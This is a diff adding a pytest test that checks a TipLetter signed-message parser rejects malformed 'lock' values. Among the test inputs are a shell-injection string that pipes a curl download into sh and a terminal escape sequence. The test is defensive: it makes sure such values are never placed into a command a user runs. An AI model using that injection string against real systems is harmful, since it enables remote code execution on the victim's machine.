@@ -533,3 +533,16 @@ def test_a_text_that_fits_no_letter_is_refused_and_padded_ones_open_again():
         TipLetter.from_padded(letter.to_padded(WORDS.key) + b"x", LINE.id.key)
     with pytest.raises(MessageTooLong):
         replace(letter, text="x" * 70_000).sign(WORDS.key)
+
+
+@pytest.mark.parametrize(
+    "lock",
+    ["x; curl evil | sh #".ljust(66), "\x1b[2J".ljust(66, "0"), "0x" + "5A" * 32, "0x" + "5a" * 31, "0x5a\n"],
+)
+def test_a_lock_that_is_none_isnt_shown_in_a_command(lock: str) -> None:
+    """Whoever gave the tip is told to run it."""
+    letter = TipLetter(LINE.id.key, WORDS.key.id.key, "thank you", lock=lock)
+    with pytest.raises(LetterForged):
+        TipLetter.parse(letter.sign(LINE), WORDS.key.id.key)
+    good = TipLetter(LINE.id.key, WORDS.key.id.key, "thank you", lock="0x" + "5a" * 32)
+    assert TipLetter.parse(good.sign(LINE), WORDS.key.id.key) == good
